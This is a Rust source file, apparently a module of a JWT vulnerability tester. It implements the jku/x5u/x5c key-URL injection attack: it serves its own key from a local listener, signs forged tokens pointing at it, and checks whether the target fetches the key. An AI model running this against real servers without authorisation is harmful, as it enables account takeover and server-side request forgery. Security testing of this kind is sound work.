//! A key that the server is to fetch.

use super::own_key::OwnKey;
use serde_json::json;
use tokio::io::AsyncReadExt;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpListener;

use crate::attack::{
    plan::{Attack, Expected, Found, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "fetched-key",
    title: "A key that the server is to fetch",
    has: "a key of his own, and a web server",
    does: "signs a token with it and names an address where the key is to be had (jku, x5u)",
    gains: "any account, and requests to inner addresses made by the server",
    source: "RFC 8725 section 3.10; F033",
    expected: Expected::EVERYWHERE.not_careless_session("it has no tokens"),
    needs: Needs::Requests,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (header, claims) = stage.base().await?;
    let own = OwnKey::new()?;
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let url = format!("http://{}/keys.json", listener.local_addr()?);
    let served = tokio::spawn(serve(listener, json!({ "keys": [own.jwk()] }).to_string()));
    let mut tokens = Vec::new();
    for name in ["jku", "x5u", "x5c"] {
        let mut header = header.clone();
        header["alg"] = "RS256".into();
        header[name] = if name == "x5c" { json!([url]) } else { json!(url) };
        tokens.push((name.to_owned(), own.token(&header, &claims)?));
    }
    let found = stage.try_tokens(&tokens).await?;
    served.abort();
    Ok(match (found, served.await) {
        // Only who was asked has ended by himself.
        (Found::Refused(_), Ok(Ok(()))) => Found::Worked("the server asked at the address".to_owned()),
        (Found::Refused(evidence), _) => Found::Refused(format!("{evidence}; and nobody asked at the address")),
        (found, _) => found,
    })
}

/// Answers one request.
async fn serve(listener: TcpListener, keys: String) -> std::io::Result<()> {
    let (mut stream, _) = listener.accept().await?;
    let mut asked = [0; 1024];
    let _ = stream.read(&mut asked).await?;
    stream.write_all(format!("HTTP/1.0 200 OK\r\ncontent-type: application/json\r\n\r\n{keys}").as_bytes()).await
}
